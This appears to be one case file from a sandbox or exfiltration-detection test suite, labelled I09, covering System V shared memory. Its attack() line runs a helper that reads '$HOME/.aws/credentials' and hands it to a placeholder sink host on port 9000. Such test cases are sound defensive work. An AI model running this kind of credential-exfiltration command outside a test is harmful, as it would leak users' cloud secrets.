# SPDX-License-Identifier: Apache-2.0
TITLE="System V shared memory, mapped before the secret is read"
ROW="I09"
attack() { "$PROVOKE/shm" sysv "$HOME/.aws/credentials" "$SINK4" 9000; }
